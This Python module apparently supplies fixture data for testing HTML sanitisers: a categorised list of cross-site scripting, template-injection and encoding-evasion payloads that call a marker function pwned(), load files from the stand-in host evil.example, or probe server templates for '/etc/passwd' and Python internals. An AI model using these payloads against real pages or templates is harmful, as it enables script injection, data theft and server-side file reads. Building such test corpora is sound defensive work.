"""Texts that would run in a page that took them for markup: ``pwned()`` is what each of them calls.

Gathered by kind: elements and their events, attributes, addresses, drawings and formulas, templates,
Markdown, what ends the place where a text stands, unicode, and what is no text at all.
"""

from __future__ import annotations

from typing import Final

_ELEMENTS: Final = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=/services/desk/evil.js></SCRIPT>",
    "<script\x0c>pwned()</script\n>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<<script>pwned();//<</script>",
    "<script/x>pwned()</script>",
    "<script>pwned()//",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=pwned()//",
    '<img src="x` `<script>pwned()</script>"` `>',
    "<IMG SRC=x OnErRoR=pwned()>",
    "<img/src=x/onerror=pwned()>",
    "<img src=//evil.example/x.png>",
    "<image href=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "<object data=javascript:pwned()></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg></object>",
    "<embed src=javascript:pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<marquee onstart=pwned()>",
    "<div style=animation-name:x onanimationstart=pwned()>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus onfocus=pwned()>x</button></form>",
    "<template><script>pwned()</script></template>",
    "<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>",
    "<x-evil contenteditable onblur=pwned() tabindex=1 autofocus onfocus=pwned()>x</x-evil>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<plaintext>",
    "<!--<img src='--><img src=x onerror=pwned()>'>",
)
_ATTRIBUTES: Final = (
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' onfocus='pwned()' autofocus x='",
    '" style="background:url(\'//evil.example/x\')" x="',
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    "x onfocus=pwned() autofocus tabindex=1",
    '`" onfocus=pwned() autofocus`',
    '\\" onfocus=pwned() autofocus',
)
_ADDRESSES: Final = (
    "javascript:pwned()",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    'https://evil.example/" onclick="pwned()" x="',
    "https://evil.example/'onfocus='pwned()'autofocus='",
    "http://evil.example/<script>pwned()</script>",
    "//evil.example/%22onfocus=pwned()",
)
_DRAWINGS: Final = (
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()></svg>#x'/>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<math href=javascript:pwned()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=pwned()></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
)
_TEMPLATES: Final = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{# {{7*7}} #}{{7*7}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(prefix)s %s %d {0} {name}",
    "{{constructor.constructor('pwned()')()}}",
    "$\\href{javascript:pwned()}{x}$",
)
_MARKDOWN: Final = (
    "[x](javascript:pwned())",
    '![x](x"onerror="pwned())',
    "![x](//evil.example/x.png)",
    "<javascript:pwned()>",
    "```\n</code></pre><img src=x onerror=pwned()>\n```",
    "```<script>pwned()</script>\nx\n```",
    "[x]: javascript:pwned()\n[x]",
)
_ENDINGS: Final = (
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</style></script><img src=x onerror=pwned()>",
    "</code></pre></details></article><img src=x onerror=pwned()>",
    "</td></tr></table><img src=x onerror=pwned()>",
    "</option></select><img src=x onerror=pwned()>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "\n\n</script>\r\n<script>pwned()</script>",
)
_UNICODE: Final = (
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "<scr\u200bipt>pwned()</scr\u200bipt>",
    "<\u0131mg src=x onerror=pwned()>",
    "\u202e<img src=x onerror=pwned()>\u202c",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "\u00bcscript\u00bepwned()\u00bc/script\u00be",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\u2028<script>pwned()</script>\u2029",
    "<img src=x\u00a0onerror=pwned()>",
    "\ufeff<script>pwned()</script>",
    "\U0001f600<script>pwned()</script>",
)

PAYLOADS: Final = (
    *_ELEMENTS, *_ATTRIBUTES, *_ADDRESSES, *_DRAWINGS, *_TEMPLATES, *_MARKDOWN, *_ENDINGS, *_UNICODE,
)  # fmt: skip
